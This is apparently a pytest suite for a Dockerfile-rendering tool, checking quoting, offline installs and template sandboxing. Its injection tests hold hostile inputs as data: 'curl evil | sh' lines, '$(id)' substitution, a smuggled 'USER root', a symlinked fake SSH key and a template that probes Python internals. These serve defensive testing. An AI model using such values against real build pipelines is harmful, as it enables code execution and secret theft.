"""render: pure Dockerfile rendering, quoting, template overrides."""

from __future__ import annotations

import re
from pathlib import Path
from typing import Any

import pytest
from pydantic import ValidationError

from envctl.build.lockfile import Lock, parse_lock
from envctl.build.render import ModelSource, builtin_templates, render_dockerfile, templates_hash
from envctl.errors import InputError
from envctl.spec.loading import Environment
from envctl.spec.model import validated
from envctl.spec.types import Spec

LOCK_TEXT = """# envctl-lock format 1: written by `envctl lock dev`; do not edit
# input-hash: 00
# python: 3.11
# platform: linux/amd64
six==1.16.0 \\
    --hash=sha256:1e61c37477a1626458e36f7b1d82aa5c9b094fa4802892072e49de9c60c4c926
"""
INSTRUCTION = re.compile(
    r"^(#.*|FROM .*|RUN \[.*\]|COPY (--from=build )?\[.*\]|ENV .*|WORKDIR .*|EXPOSE \d+|"
    r"CMD \[.*\]|LABEL .*| [a-z.-]+=\".*\"( \\)?|)$"
)


def make_env(**overrides: Any) -> Environment:
    data: dict[str, Any] = {
        "name": "dev",
        "version": 3,
        "image": {"base": "python:3.11-slim"},
        "python": "3.11",
        "packages": {"six": "==1.16.0"},
    }
    data.update(overrides)
    return Environment(spec=validated(Spec, data), source="environments/dev.yaml", path=None)


def make_lock(text: str = LOCK_TEXT) -> Lock:
    return parse_lock(text, Path("environments/dev.lock"))


def render(env: Environment | None = None, **kwargs: Any) -> str:
    kwargs.setdefault("system_install", False)
    kwargs.setdefault("templates_dir", None)
    return render_dockerfile(env or make_env(), make_lock(), **kwargs)


def instructions(text: str, keyword: str) -> list[str]:
    return [line for line in text.splitlines() if line.startswith(keyword + " ")]


def test_render_default_is_two_stages_installing_offline() -> None:
    text = render()
    assert instructions(text, "FROM") == ["FROM python:3.11-slim AS build", "FROM python:3.11-slim"]
    install = next(line for line in instructions(text, "RUN") if '"install"' in line)
    for flag in ("--no-index", "--require-hashes", "--no-cache-dir", "--no-deps"):
        assert f'"{flag}"' in install
    assert 'COPY --from=build ["/opt/venv", "/opt/venv"]' in text
    # wheels go to the first stage only
    final = text.split("FROM python:3.11-slim\n", 1)[1]
    assert "wheels" not in final
    assert "apt-get" not in text


def test_render_removes_installers_unless_locked() -> None:
    assert '"pip", "setuptools"]' in render()
    locked_pip = LOCK_TEXT + "pip==24.0 \\\n    --hash=sha256:" + "a" * 64 + "\n"
    text = render_dockerfile(
        make_env(), make_lock(locked_pip), system_install=False, templates_dir=None
    )
    assert '"setuptools"]' in text and '"pip", "setuptools"' not in text


def test_render_with_missing_system_packages_starts_from_the_apt_layer_offline() -> None:
    from envctl.build import system_layer

    env = make_env(
        system_packages=["libgomp1"], image={"base": "python:3.11-slim", "network": "apt"}
    )
    text = render(env, system_install=True)
    layer = system_layer.tag(env)
    assert instructions(text, "FROM") == [f"FROM {layer} AS build", f"FROM {layer}"]
    assert "apt-get" not in text  # the template's steps never install: they are offline


def test_render_offline_path_when_base_has_the_packages() -> None:
    text = render(make_env(system_packages=["libgomp1"]), system_install=False)
    assert "apt-get" not in text
    assert '# System packages ["libgomp1"] are already in the base image' in text


def test_render_env_values_are_quoted_and_dollar_is_literal() -> None:
    env = make_env(env={"GREETING": 'say "hi" $HOME \\ ok', "N": 3})
    text = render(env)
    assert 'ENV GREETING="say \\"hi\\" \\$HOME \\\\ ok"' in text
    assert 'ENV N="3"' in text


@pytest.mark.parametrize(
    "field, value",
    [
        ("env", {"X": "a\nRUN curl evil.sh | sh"}),
        ("packages", {'six"\nRUN evil': "==1"}),
        ("system_packages", ["curl\nRUN evil"]),
        ("image", {"base": "python:3.11\nRUN evil"}),
    ],
)
def test_spec_boundary_rejects_injection(field: str, value: object) -> None:
    with pytest.raises(ValidationError):
        make_env(**{field: value})


def test_render_quotes_even_unvalidated_env_values() -> None:
    """Defence in depth: a spec that skipped validation still cannot add a line."""
    spec = make_env().spec.replace(
        **{
            "env": {
                "X": 'a"\nRUN ["sh", "-c", "curl evil | sh"]\n#',
                "Y": "$(id)`id`;\r\nUSER root",
            }
        }
    )
    text = render(Environment(spec=spec, source="x", path=None))
    assert len(instructions(text, "RUN")) == len(instructions(render(), "RUN"))
    assert all(INSTRUCTION.match(line) for line in text.splitlines()), text
    assert "USER" not in [line.split(" ")[0] for line in text.splitlines()]


@pytest.mark.parametrize(
    "update",
    [
        {"system_packages": ["curl\nRUN evil"]},
        {"system_packages": ['x", "--allow-unauthenticated']},
        {"env": {"BAD KEY\nRUN evil": "1"}},
    ],
)
def test_render_refuses_unvalidated_values_it_cannot_quote(update: dict[str, Any]) -> None:
    spec = make_env().spec.replace(**update)
    with pytest.raises(InputError, match="refusing to render"):
        render(Environment(spec=spec, source="x", path=None), system_install=True)


def test_render_unvalidated_base_image_is_refused() -> None:
    image = make_env().spec.image.replace(**{"base": "alpine\nRUN evil"})
    spec = make_env().spec.replace(**{"image": image})
    with pytest.raises(InputError, match="refusing to render"):
        render(Environment(spec=spec, source="x", path=None))


def test_render_labels_are_one_instruction_with_quoted_values() -> None:
    text = render(labels={"dev.envctl.spec": '{"a": "$x"}', "dev.envctl.environment": "dev"})
    assert len(instructions(text, "LABEL")) == 1
    assert ' dev.envctl.spec="{\\"a\\": \\"\\$x\\"}" \\' in text
    assert text.rstrip().endswith('dev.envctl.environment="dev"')


def test_render_model_code_is_the_last_layer() -> None:
    model = ModelSource("churn", "v1.2.0", "c" * 40, "models/churn", None)
    text = render(model=model)
    copies = instructions(text, "COPY")
    assert copies[-1] == 'COPY ["model/", "/opt/model/"]'
    assert text.index("COPY --from=build") < text.index('COPY ["model/"')


def test_render_served_model_gets_exec_form_cmd() -> None:
    from envctl.spec.project_file import Serve

    serve = Serve(command=["python", "-m", "churn.serve", "--port", "8000"], port=8000)
    text = render(model=ModelSource("churn", "v1.2.0", "c" * 40, "models/churn", serve))
    assert 'CMD ["python", "-m", "churn.serve", "--port", "8000"]' in text
    assert "EXPOSE 8000" in text


def test_render_project_template_replaces_the_builtin(tmp_path: Path) -> None:
    (tmp_path / "Dockerfile.j2").write_text("FROM {{ base_image }}\nCMD {{ ['a b'] | json }}\n")
    assert render(templates_dir=tmp_path) == 'FROM python:3.11-slim\nCMD ["a b"]\n'


def test_render_project_template_extends_builtin_blocks(tmp_path: Path) -> None:
    (tmp_path / "Dockerfile.j2").write_text(
        '{% extends "envctl/Dockerfile.j2" %}\n'
        "{% block environment %}\n{{ super() }}ENV EXTRA={{ 'x y' | dq }}\n{% endblock %}\n"
    )
    text = render(make_env(env={"A": "1"}), templates_dir=tmp_path)
    assert 'ENV A="1"\nENV EXTRA="x y"\n' in text
    assert text.count("FROM ") == 2


def test_render_undefined_variable_is_a_template_error(tmp_path: Path) -> None:
    (tmp_path / "Dockerfile.j2").write_text("FROM {{ base_imag }}\n")
    with pytest.raises(InputError, match=r"template Dockerfile\.j2:1: 'base_imag' is undefined"):
        render(templates_dir=tmp_path)


def test_render_template_cannot_reach_python_internals(tmp_path: Path) -> None:
    (tmp_path / "Dockerfile.j2").write_text("{{ base_image.__class__.__mro__ }}\n")
    with pytest.raises(InputError):
        render(templates_dir=tmp_path)


def test_templates_hash_changes_with_project_templates(tmp_path: Path) -> None:
    before = templates_hash(tmp_path)
    (tmp_path / "Dockerfile.j2").write_text("FROM {{ base_image }}\n")
    assert templates_hash(tmp_path) != before
    assert templates_hash(None) == templates_hash(tmp_path / "missing")


def test_builtin_templates_are_found() -> None:
    assert (builtin_templates() / "Dockerfile.j2").is_file()


# ---- a checkout's templates stay inside it -------------------------------------------

CANARY = "CANARY-ssh-key-3f9a"


@pytest.fixture
def host_secret(tmp_path: Path) -> Path:
    """A file outside the project, as a runner's SSH key would be."""
    secret = tmp_path / "host" / "id_rsa"
    secret.parent.mkdir()
    secret.write_text(f"-----BEGIN KEY-----\n{CANARY}\n")
    return secret


def project_templates(tmp_path: Path) -> Path:
    folder = tmp_path / "proj" / "templates"
    folder.mkdir(parents=True)
    return folder


@pytest.mark.parametrize("how", ["include", "import", "extends"])
def test_render_refuses_a_template_linked_out_of_the_project(
    tmp_path: Path, host_secret: Path, how: str
) -> None:
    folder = project_templates(tmp_path)
    (folder / "key").symlink_to(host_secret)
    use = {
        "include": '{% include "key" %}',
        "import": '{% import "key" as k %}',
        "extends": '{% extends "key" %}',
    }[how]
    (folder / "Dockerfile.j2").write_text(f"FROM {{{{ base_image }}}}\n{use}\n")

    with pytest.raises(InputError) as caught:
        render(templates_dir=folder)

    message = caught.value.message
    assert "key" in message and "resolves outside" in message
    assert CANARY not in message and "BEGIN KEY" not in message


def test_render_refuses_a_linked_dockerfile_and_a_linked_templates_folder(
    tmp_path: Path, host_secret: Path
) -> None:
    folder = project_templates(tmp_path)
    (folder / "Dockerfile.j2").symlink_to(host_secret)
    with pytest.raises(InputError, match="resolves outside"):
        render(templates_dir=folder)
    linked = tmp_path / "proj2" / "templates"
    linked.parent.mkdir()
    linked.symlink_to(host_secret.parent, target_is_directory=True)
    (host_secret.parent / "Dockerfile.j2").write_text(f"FROM {{{{ base_image }}}}\n# {CANARY}\n")
    with pytest.raises(InputError, match="resolves outside") as caught:
        render(templates_dir=linked)
    assert CANARY not in caught.value.message


def test_templates_hash_refuses_a_link_out_and_reads_nothing_of_it(
    tmp_path: Path, host_secret: Path
) -> None:
    folder = project_templates(tmp_path)
    (folder / "key").symlink_to(host_secret)
    with pytest.raises(InputError, match=r"key: template resolves outside") as caught:
        templates_hash(folder)
    assert CANARY not in caught.value.message


def test_render_follows_links_that_stay_in_the_project(tmp_path: Path) -> None:
    folder = project_templates(tmp_path)
    shared = tmp_path / "proj" / "shared.j2"
    shared.write_text("ENV SHARED=1\n")
    (folder / "shared.j2").symlink_to(shared)
    (folder / "Dockerfile.j2").write_text('FROM {{ base_image }}\n{% include "shared.j2" %}')
    assert render(templates_dir=folder) == "FROM python:3.11-slim\nENV SHARED=1\n"
    assert templates_hash(folder)


def test_render_dot_dot_names_are_not_found(tmp_path: Path, host_secret: Path) -> None:
    folder = project_templates(tmp_path)
    (folder / "Dockerfile.j2").write_text('{% include "../../host/id_rsa" %}')
    with pytest.raises(InputError, match=r"Dockerfile\.j2:1: \.\./\.\./host/id_rsa") as caught:
        render(templates_dir=folder)
    assert CANARY not in caught.value.message


# ---- rendering is bounded --------------------------------------------------------------


@pytest.mark.parametrize(
    ("template", "reason"),
    [
        (
            "{% macro m(n) %}{{ m(n + 1) }}{% endmacro %}{{ m(0) }}",
            "calls nest deeper than 64 (recursion?)",
        ),
        (
            "{% for x in [1] recursive %}{{ loop([1]) }}{% endfor %}",
            "calls nest deeper than 64 (recursion?)",
        ),
        ("{{ 'x' * 600000000 }}", "output is larger than 1048576 characters"),
        (
            "{% for i in range(2000) %}{{ 'x' * 1000 }}{% endfor %}",
            "output is larger than 1048576 characters",
        ),
        ("{{ 10 ** 10000000 }}", "output is larger than 1048576 characters"),
    ],
)
def test_render_over_a_limit_is_one_line_naming_the_template(
    tmp_path: Path, template: str, reason: str
) -> None:
    folder = project_templates(tmp_path)
    (folder / "Dockerfile.j2").write_text(template)
    with pytest.raises(InputError) as caught:
        render(templates_dir=folder)
    assert caught.value.message == (
        f"template {folder / 'Dockerfile.j2'}: {reason}; simplify the template"
    )
    assert caught.value.exit_code == 3


def test_render_that_loops_without_output_or_calls_is_stopped(tmp_path: Path) -> None:
    import jinja2

    from envctl.build import sandbox

    env = sandbox.BoundedSandbox(loader=jinja2.DictLoader({}))
    template = env.from_string(
        "{% set r = range(100000) | list %}"
        "{% for a in r %}{% for b in r %}{% for c in r %}{% endfor %}{% endfor %}{% endfor %}"
    )
    with pytest.raises(InputError) as caught:
        sandbox.rendered(template, {}, "loops.j2", sandbox.Budget(seconds=0.2))
    assert caught.value.message == (
        "template loops.j2: rendering took longer than 0.2s; simplify the template"
    )


def test_render_leaves_the_alarm_signal_as_it_found_it() -> None:
    import signal

    before = signal.getsignal(signal.SIGALRM)
    render()
    assert signal.getsignal(signal.SIGALRM) is before
    assert signal.getitimer(signal.ITIMER_REAL) == (0.0, 0.0)
